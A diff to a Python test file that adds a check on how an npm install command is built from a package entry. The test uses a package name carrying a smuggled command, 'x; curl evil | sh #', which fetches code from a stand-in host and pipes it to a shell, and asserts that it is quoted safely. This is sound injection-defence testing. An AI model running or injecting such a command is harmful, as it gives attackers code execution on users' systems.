@@ -1,6 +1,7 @@
 """The pages of the atlas: made from what is recorded, up to date, and with everything that an entry says."""
 
 import re
+import shlex
 from dataclasses import replace
 from datetime import date
 from pathlib import Path
@@ -142,6 +143,8 @@ def test_a_node_package_is_installed_by_npm(tmp_path: Path) -> None:
     (tmp_path / "node").mkdir()
     (tmp_path / "node/package-lock.json").write_text("{}", encoding="utf-8")
     assert install_line(tmp_path, Entry.model_validate(SHELF), FOUND) == "npm install shelf@1.0"
+    signs = Entry.model_validate({**SHELF, "package": "x; curl evil | sh #"})
+    assert shlex.split(install_line(tmp_path, signs, FOUND)) == ["npm", "install", "x; curl evil | sh #@1.0"]
 
 
 def test_what_is_asked_is_made_once_for_all_pages(monkeypatch: pytest.MonkeyPatch) -> None:
